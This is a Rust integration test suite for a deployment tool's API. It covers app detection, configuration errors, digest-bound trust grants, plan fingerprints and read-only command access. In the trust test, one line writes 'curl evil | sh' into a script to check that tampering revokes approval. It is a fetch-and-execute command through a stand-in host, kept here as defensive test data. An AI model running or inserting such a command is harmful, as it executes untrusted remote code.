//! Apps, trust, plans and values.

use crate::desk::{DOCKERFILE, Desk};
use seatrial_app::api::{Access, COMMANDS, Code};
use serde_json::{Value, json};

#[tokio::test]
async fn a_folder_with_a_dockerfile_becomes_an_app_without_any_file() {
    let desk = Desk::with(&[DOCKERFILE]);
    let view = desk.open().await;
    assert_eq!(view["detection"]["kind"], "Dockerfile");
    assert_eq!(view["environments"][0]["name"], "local");
    assert_eq!(view["environments"][0]["current"], Value::Null);
    assert_eq!(view["trust"]["granted"], false);
    let listed = desk.ask("app.list", Value::Null).await.unwrap();
    assert_eq!(listed[0]["app"], view["app"]);
    assert_eq!(desk.open().await["app"], view["app"], "opening again is fine");
}

#[tokio::test]
async fn every_problem_of_the_configuration_comes_at_once_with_its_place() {
    let text = "app = \"shop\"\nstrategi = 1\n[ship]\nport = \"x\"\nstrategy = \"bluegreen\"\n";
    let desk = Desk::with(&[DOCKERFILE, ("seatrial.toml", text)]);
    let view = desk.open().await;
    let app = &view["app"];
    assert_eq!(view["environments"], json!([]));
    let error = desk.ask("run.plan", json!({"app": app, "kind": "deploy"})).await.unwrap_err();
    assert_eq!(error.code, Code::Configuration);
    let lines: Vec<u32> = error.problems.iter().map(|p| p.line).collect();
    assert_eq!(lines, [2, 4, 5]);
    assert!(error.problems.iter().all(|p| p.column > 0 && p.file == "seatrial.toml"));
}

#[tokio::test]
async fn t7_trust_is_for_exactly_what_was_shown() {
    let text = "app = \"shop\"\n[build.steps.check]\nrun = \"./check.sh\"\n";
    let desk = Desk::with(&[DOCKERFILE, ("seatrial.toml", text), ("check.sh", "true\n")]);
    let trust = desk.open().await["trust"].clone();
    assert!(trust["commands"][0].as_str().unwrap().contains("./check.sh"));
    assert_eq!(trust["files"], json!(["seatrial.toml", "Dockerfile", "check.sh"]));
    let yes = json!({"app": "shop", "digest": trust["digest"]});

    std::fs::write(desk.path().join("check.sh"), "curl evil | sh\n").unwrap();
    assert_eq!(desk.ask("trust.grant", yes.clone()).await.unwrap_err().code, Code::TrustRequired);

    std::fs::write(desk.path().join("check.sh"), "true\n").unwrap();
    assert_eq!(desk.ask("trust.grant", yes).await.unwrap()["granted"], true);
    assert_eq!(desk.open().await["trust"]["granted"], true);

    std::fs::write(desk.path().join("check.sh"), "false\n").unwrap();
    let again = desk.open().await["trust"].clone();
    assert_eq!((again["granted"].clone(), again["changed"].clone()), (json!(false), json!(true)));
    assert!(again["diff"].as_str().unwrap().contains("-true\n+false"));
}

#[tokio::test]
async fn values_set_here_stand_beside_those_of_the_file() {
    let text = "app = \"shop\"\n[env.local]\ntarget = \"docker\"\nenv = { LOG = \"info\" }\n";
    let desk = Desk::with(&[DOCKERFILE, ("seatrial.toml", text)]);
    desk.open().await;
    let set = json!({"app": "shop", "name": "EXTRA", "value": "1"});
    let values = desk.ask("env.set", set).await.unwrap();
    assert_eq!(values[0], json!({"name": "EXTRA", "value": "1", "origin": "set here"}));
    assert_eq!(values[1], json!({"name": "LOG", "value": "info", "origin": "seatrial.toml:4"}));
    let removed = desk.ask("env.set", json!({"app": "shop", "name": "EXTRA"})).await.unwrap();
    assert_eq!(removed.as_array().unwrap().len(), 1);
    let bad = desk.ask("env.set", json!({"app": "shop", "name": "A-B", "value": "1"})).await;
    assert_eq!(bad.unwrap_err().code, Code::Usage);
}

#[tokio::test]
async fn a_build_only_plan_needs_no_engine_and_the_same_folder_gives_the_same_plan() {
    let desk = Desk::with(&[DOCKERFILE, ("seatrial.toml", "app = \"shop\"\n")]);
    desk.open().await;
    let ask = json!({"app": "shop", "kind": "deploy", "phases": ["build"]});
    let plan = desk.ask("run.plan", ask.clone()).await.unwrap();
    let steps: Vec<&str> =
        plan["steps"].as_array().unwrap().iter().map(|s| s["id"].as_str().unwrap()).collect();
    assert_eq!(steps, ["version", "package", "release"]);
    assert_eq!(desk.ask("run.plan", ask.clone()).await.unwrap()["fingerprint"], plan["fingerprint"]);

    let start = json!({"plan": ask, "fingerprint": plan["fingerprint"], "trigger": "terminal"});
    assert_eq!(desk.ask("run.start", start).await.unwrap_err().code, Code::TrustRequired);
    std::fs::write(desk.path().join("seatrial.toml"), "app = \"shop\"\n[ship]\nport = 9\n").unwrap();
    let stale = json!({"plan": ask, "fingerprint": plan["fingerprint"], "trigger": "terminal"});
    assert_eq!(desk.ask("run.start", stale).await.unwrap_err().code, Code::PlanOutdated);
}

#[tokio::test]
async fn what_does_not_exist_is_not_found_and_says_what_to_do() {
    let desk = Desk::with(&[DOCKERFILE]);
    let run = json!({"run": "00000000-0000-7000-8000-000000000000"});
    for (command, params) in [
        ("app.get", json!({"app": "nobody"})),
        ("app.open", json!({"folder": desk.path().join("gone")})),
        ("run.get", run.clone()),
        ("run.cancel", run),
        ("target.forget", json!({"target": "ssh://nobody"})),
    ] {
        let error = desk.ask(command, params).await.unwrap_err();
        assert_eq!(error.code, Code::NotFound, "{command}");
        assert!(!error.hints.is_empty(), "{command} leaves a person alone");
    }
    assert_eq!(desk.ask("app.explode", Value::Null).await.unwrap_err().code, Code::Usage);
    assert_eq!(desk.ask("run.get", json!({"run": 7})).await.unwrap_err().code, Code::Usage);
    assert_eq!(desk.ask("run.get", json!({"runn": "x"})).await.unwrap_err().code, Code::Usage);
}

#[tokio::test]
async fn init_proposes_writes_when_asked_and_never_overwrites() {
    let desk = Desk::with(&[("index.html", "<h1>hi</h1>")]);
    let folder = desk.path();
    let proposed = desk.ask("app.init", json!({"folder": folder})).await.unwrap();
    assert_eq!(proposed["written"], json!([]));
    assert!(proposed["app"]["detection"]["generated_dockerfile"].as_str().unwrap().contains("FROM caddy:2"));
    assert!(!folder.join("seatrial.toml").exists());
    let ask = json!({"folder": folder, "write_file": true, "write_dockerfile": true});
    let written = desk.ask("app.init", ask.clone()).await.unwrap();
    assert_eq!(written["written"], json!(["seatrial.toml", "Dockerfile"]));
    assert_eq!(written["app"]["problems"], json!([]), "what we write, we can read");
    assert_eq!(desk.ask("app.init", ask).await.unwrap()["written"], json!([]));
}

#[tokio::test]
async fn the_sample_is_an_app_and_another_folders_content_is_never_touched() {
    let desk = Desk::with(&[("precious.txt", "mine")]);
    let error = desk.ask("sample.create", json!({"folder": desk.path()})).await.unwrap_err();
    assert_eq!(error.code, Code::Conflict);
    assert_eq!(std::fs::read_dir(desk.path()).unwrap().count(), 1);
    let view = desk.ask("sample.create", json!({"folder": desk.path().join("new")})).await.unwrap();
    assert_eq!((view["app"].clone(), view["problems"].clone()), (json!("sample"), json!([])));
    assert_eq!(view["environments"][0]["urls"], json!(["http://sample.localhost"]));
}

#[tokio::test]
async fn the_change_feed_answers_with_a_cursor_to_go_on_from() {
    let desk = Desk::with(&[DOCKERFILE]);
    let first = desk.ask("changes.wait", Value::Null).await.unwrap();
    desk.open().await;
    let after = json!({"cursor": first["cursor"], "wait_ms": 1000});
    let next = desk.ask("changes.wait", after).await.unwrap();
    assert!(next["cursor"].as_u64() > first["cursor"].as_u64());
    assert_eq!((&next["runs"], &next["topics"]), (&json!([]), &json!(["apps"])));
}

#[test]
fn only_commands_that_change_nothing_may_be_called_by_a_read_only_page() {
    let reading: Vec<&str> = COMMANDS.iter().filter(|c| c.access == Access::Read).map(|c| c.name).collect();
    let expected = [
        "machine.check",
        "target.list",
        "target.check",
        "target.preparation",
        "target.progress",
        "app.list",
        "app.get",
        "app.explain",
        "run.plan",
        "run.get",
        "run.list",
        "run.find",
        "log.lines",
        "release.list",
        "env.list",
        "secret.list",
        "fleet.get",
        "environment.get",
        "environment.entrance",
        "environment.output",
        "environment.usage",
        "environment.leftovers",
        "run.timeline",
        "run.compare",
        "log.search",
        "release.get",
        "release.compare",
        "promotion.get",
        "pipeline.get",
        "import.preview",
        "inbox.list",
        "settings.get",
        "changes.wait",
    ];
    assert_eq!(reading, expected);
}
